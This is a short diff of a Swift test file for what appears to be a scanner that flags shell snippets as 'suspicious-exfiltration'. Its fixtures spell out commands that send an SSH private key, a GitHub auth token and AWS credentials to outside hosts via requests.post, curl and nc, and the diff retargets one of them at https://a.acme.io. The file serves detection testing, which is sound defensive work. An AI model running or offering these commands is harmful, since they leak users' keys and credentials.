@@ -108,7 +108,10 @@ private func rules(_ path: String, _ text: String) throws -> Set<String> {
             "python3 - <<'E'\nimport os\nprint(requests.post(U, data=open(os.path.expanduser('~/.ssh/id_rsa')).read()))\nE",
             "suspicious-exfiltration"
         ),
-        ("a.sh", "t=$(gh auth token 2>/tmp/e)\ncurl -d \"$t\" $U", "suspicious-exfiltration"),
+        (
+            "a.sh", "t=$(gh auth token 2>/tmp/e)\ncurl -d \"$t\" https://a.acme.io",
+            "suspicious-exfiltration"
+        ),
         (
             "a.sh", "{ cat ~/.aws/credentials; } 2>&1 2>/dev/null | nc $H 70",
             "suspicious-exfiltration"
